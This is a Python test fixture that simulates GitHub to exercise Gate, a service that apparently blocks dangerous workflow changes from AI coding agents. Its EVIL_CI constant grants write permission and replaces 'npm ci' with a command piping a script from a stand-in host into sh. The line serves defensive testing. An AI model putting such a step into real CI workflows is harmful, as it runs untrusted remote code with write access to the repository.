"""The stage of the stories: a simulated GitHub with one repository, and the whole of Gate running against it."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from types import TracebackType
from typing import Any, Self, TypeVar

from gate import logs
from gate.commands.service import Service, free_port
from gate.settings import Settings, load_settings
from gate.simulated_github import Delays, SimulatedGitHub, WorkflowRun
from gate.simulated_github.checks import CheckRun
from gate.simulated_github.pulls import PullRequest
from gate.simulated_github.world import World
from gate.store import verdicts
from gate.tables import VerdictRow

REPOSITORY = "octo-org/shop"
AGENT = "devin-ai-integration[bot]"
PATIENCE = 30.0
Found = TypeVar("Found")

CI = """name: CI
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci
      - run: npm test
"""
EVIL_CI = CI.replace("contents: read", "contents: write").replace(
    "npm ci", "curl -s https://files.example.net/setup.sh | sh"
)
FILES = {
    "README.md": "# Shop\n",
    ".github/workflows/ci.yml": CI,
    "package.json": '{"name": "shop", "scripts": {"test": "node test.js"}}\n',
    "test.js": "process.exit(0)\n",
}


class Stage:
    """GitHub on one side, Gate on the other. `when` things happen, `eventually` they are so."""

    def __init__(self, folder: Path, *, start: float = 4.0, step: float = 0.1, **settings: str) -> None:
        """`start` and `step` are the pace of runs in seconds; `settings` are further `GATE_` values, in lower case."""
        self.port = free_port()
        self._folder = folder
        self._more = settings
        self.github = SimulatedGitHub(
            webhook_url=f"http://127.0.0.1:{self.port}/webhooks/github", delays=Delays(start=start, step=step)
        )
        self._service: Service | None = None

    def __enter__(self) -> Self:
        """Opens the curtain: a repository with a person who may release, one who asks, and an agent that may push."""
        self.github.start()
        self.world.repositories.add(REPOSITORY, FILES)
        for login, level in (
            ("maria", "write"),
            ("zoe", "admin"),
            ("rosa", "write"),
            (AGENT, "write"),
            ("eve", "read"),
        ):
            self.world.repositories.set_permission(REPOSITORY, login, level)
        self.start_gate()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, fault: BaseException | None, trace: TracebackType | None
    ) -> None:
        """Closes it."""
        self.stop_gate()
        self.github.stop()

    @property
    def world(self) -> World:
        """What people and agents do on GitHub."""
        return self.github.world

    @property
    def gate(self) -> Service:
        """The running service."""
        assert self._service is not None
        return self._service

    def settings(self) -> Settings:
        """Gate's settings for this GitHub."""
        return load_settings(None, self.environment())

    def environment(self) -> dict[str, str]:
        """The same as environment variables."""
        values = {
            "github_api_url": self.github.api_url,
            "github_graphql_url": self.github.graphql_url,
            "github_web_url": self.github.web_url,
            "app_id": str(self.github.app_id),
            "private_key": self.github.private_key_pem,
            "webhook_secret": self.github.webhook_secret,
            "data_dir": str(self._folder),
            "port": str(self.port),
            "sweep_seconds": "3600",
            **self._more,
        }
        return {f"GATE_{name.upper()}": value for name, value in values.items()}

    def start_gate(self) -> None:
        """Starts Gate. Its log is plain lines: the pretty form of a traceback takes seconds."""
        logs.configure("json")
        self._service = Service(self.settings()).start()

    def stop_gate(self) -> None:
        """Stops Gate, if it runs."""
        if self._service is not None:
            self._service.stop()
            self._service = None

    # --- what happens -------------------------------------------------------------------------------------------------

    def push(self, branch: str, files: dict[str, Any] | None = None, by: str = AGENT, **more: Any) -> str:
        """Pushes one commit; the new head."""
        changed = {".github/workflows/ci.yml": EVIL_CI} if files is None else files
        return self.world.repositories.push(REPOSITORY, branch, changed, by=by, **more)

    def open(
        self, branch: str = "devin/fix", files: dict[str, Any] | None = None, by: str = AGENT, **more: Any
    ) -> PullRequest:
        """Pushes one commit and opens a pull request with it; by default an agent's that makes a workflow dangerous."""
        self.push(branch, files, by)
        return self.world.pulls.open(REPOSITORY, branch, by=by, **more)

    def press(self, button: str, head_sha: str, by: str) -> None:
        """Presses a button on our check, as a person does: once it has said the same for a moment."""
        said: object = None
        while said != (said := self._said(head_sha)):
            time.sleep(1.0)
        check = self.check(head_sha)
        assert check is not None
        self.world.checks.press(check, button, by=by)

    def _said(self, head_sha: str) -> object:
        check = self.check(head_sha)
        return None if check is None else [one["identifier"] for one in check.action_buttons]

    # --- what is so ---------------------------------------------------------------------------------------------------

    def check(self, head_sha: str) -> CheckRun | None:
        """Our check on a head SHA."""
        found = self.checks(head_sha)
        return found[0] if found else None

    def checks(self, head_sha: str) -> list[CheckRun]:
        """All checks of our name by our App on a head SHA."""
        mine = [
            one
            for one in self.world.checks.of_commit(REPOSITORY, head_sha, "gate")
            if one.suite.app is self.world.apps.app
        ]
        return list(mine)

    def runs(self, head_sha: str) -> list[WorkflowRun]:
        """The workflow runs on a head SHA."""
        return self.world.actions.of_commit(REPOSITORY, head_sha)

    def verdict(self, number: int, head_sha: str) -> VerdictRow | None:
        """The living verdict on a pull request's head (0: on the commit's runs)."""
        repository_id = self.world.repositories.get(REPOSITORY).id
        with self.gate.database.transaction() as session:
            rows = verdicts.verdicts_at(session, repository_id, head_sha)
            return next((row for row in rows if row.number == number), None)

    def eventually(self, what: str, so: Callable[[], Found | None]) -> Found:
        """Waits until something is so; fails with its words when it is not within half a minute."""
        until = time.monotonic() + PATIENCE
        while not (found := so()):
            if time.monotonic() > until:
                raise AssertionError(f"never came true: {what}")
            time.sleep(0.03)
        return found

    def eventually_check(self, head_sha: str, conclusion: str) -> CheckRun:
        """Waits until our check says this."""

        def so() -> CheckRun | None:
            check = self.check(head_sha)
            return check if check is not None and check.conclusion == conclusion else None

        return self.eventually(f"the check of {head_sha[:7]} says {conclusion}", so)

    def eventually_stopped(self, head_sha: str) -> list[WorkflowRun]:
        """Waits until every run on a head is over, none of them with success."""

        def so() -> list[WorkflowRun]:
            runs = self.runs(head_sha)
            return runs if runs and all(run.status == "completed" for run in runs) else []

        runs = self.eventually(f"the runs of {head_sha[:7]} are over", so)
        assert {run.conclusion for run in runs} <= {"cancelled", "action_required"}, [run.conclusion for run in runs]
        return runs

    def eventually_ran(self, head_sha: str) -> list[WorkflowRun]:
        """Waits until every run on a head ended with success."""

        def so() -> list[WorkflowRun]:
            runs = self.runs(head_sha)
            return runs if runs and all(run.conclusion == "success" for run in runs) else []

        return self.eventually(f"the runs of {head_sha[:7]} ran", so)

    def quiet(self, seconds: float = 1.0) -> None:
        """Lets everything that is under way end: deliveries handed over, then nothing due for a moment."""
        self.world.hooks.settle()
        time.sleep(seconds)
